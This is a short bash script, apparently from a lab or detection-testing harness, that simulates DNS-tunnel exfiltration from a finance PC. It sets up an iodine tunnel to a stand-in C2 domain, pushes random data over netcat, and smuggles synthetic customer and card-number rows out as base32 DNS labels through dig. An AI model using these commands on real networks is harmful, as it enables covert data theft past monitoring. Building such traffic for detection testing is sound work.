# From a finance PC through the province's own resolver: first iodine (questions of type NULL, binary names), with pings
# and 8 kB of data inside; then a table carried out in plain host names by dig, 45 letters and more a label.
# shellcheck shell=bash

attack_dns_tunnel() {
  on c2 timeout 60 nc -l 172.31.99.1 9000 >/dev/null &
  local sink=$!
  on pc-stc timeout 45 iodine -f -r -P saola-demo 10.10.20.53 t.cdn-sync.example &
  local client=$!
  sleep 12
  on pc-stc ping -c 5 -i 1 172.31.99.1 || true
  on pc-stc bash -c 'head -c 8000 /dev/urandom | timeout 20 nc -N 172.31.99.1 9000' || true
  wait $client || true
  kill $sink 2>/dev/null || true
  carry_out_by_names
}

carry_out_by_names() {
  # shellcheck disable=SC2016
  on pc-stc timeout 60 bash -c 'for row in $(seq 90); do printf "NV%05d,Nguyen Van A,9704%08d\n" $row $((row * 7)); done | base32 -w 110 | tr A-Z= a-z0 |
    while read -r piece; do dig +short +tries=1 +time=2 "${piece:0:55}.${piece:55:55}.d.cdn-sync.example" A; done'
}
